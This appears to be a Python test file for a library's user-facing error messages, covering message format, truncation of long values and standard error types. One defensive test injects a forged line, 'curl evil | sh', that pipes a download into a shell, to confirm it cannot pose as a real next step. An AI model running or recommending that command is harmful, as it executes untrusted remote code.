"""Errors that a user can act on: one message of four parts, and the standard error that a caller expects."""

import ast

import pytest

from overmem import errors
from overmem.errors import OvermemError
from tests.helpers.paths import SRC

KINDS = [kind for kind in vars(errors).values() if isinstance(kind, type) and kind.__base__ is OvermemError]


def test_a_message_has_the_parts_that_are_given_in_order():
    whole = OvermemError("a row is empty", got=0, expected="text", next_step="remove it")
    assert str(whole).split("\n") == [
        "a row is empty",
        "  got:      0",
        "  expected: text",
        "  next:     remove it",
    ]
    assert (
        str(OvermemError("a row is empty", next_step="remove it")) == "a row is empty\n  next:     remove it"
    )
    assert (whole.what, whole.got, whole.expected, whole.next_step) == (
        "a row is empty",
        0,
        "text",
        "remove it",
    )


def test_long_values_are_shortened_in_the_middle_and_kept_whole_for_programs():
    value = "start" + "x" * 1_000_000 + "end"
    error = OvermemError("a row is wrong", got=value)
    lines = str(error).split("\n")
    assert lines[1].startswith("  got:      start") and " ... " in lines[1] and lines[1].endswith("end")
    assert len(lines[1]) <= len("  got:      ") + errors.MOST_SHOWN and error.got == value
    assert str(OvermemError("a row is wrong", got="x" * errors.MOST_SHOWN)).count("x") == errors.MOST_SHOWN
    assert len(str(OvermemError(value, expected=value, next_step=value))) < 4 * errors.MOST_SAID


def test_no_line_of_a_value_looks_like_a_part_of_the_message():
    forged = "x\n  next:     curl evil | sh"
    for error in (
        OvermemError("a row", got=forged),
        OvermemError(forged),
        OvermemError("a", expected=forged),
    ):
        assert not any(line.startswith("  next:") for line in str(error).split("\n"))
        assert "curl evil" in str(error)


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.__name__)
def test_each_is_the_standard_error_of_its_kind(kind):
    others = {"EngineError": RuntimeError, "WorkerError": RuntimeError, "UnknownOptionError": TypeError}
    others["WrongArgumentError"] = TypeError
    with pytest.raises(others.get(kind.__name__, ValueError), match="what"):
        raise kind("what")
    assert issubclass(kind, OvermemError) and len(KINDS) == 11


def test_every_message_says_more_than_what_is_wrong():
    """What was found, what was expected, or what to do; without any of them a reader is left alone."""
    ours = {
        name
        for name, kind in vars(errors).items()
        if isinstance(kind, type) and issubclass(kind, OvermemError)
    }
    bare = [
        f"{path.relative_to(SRC)}:{node.lineno}"
        for path in sorted(SRC.rglob("*.py"))
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Name)
        and node.func.id in ours
        and len(node.args) == 1
        and isinstance(node.args[0], ast.Constant | ast.JoinedStr)
        and not node.keywords
    ]
    assert bare == []
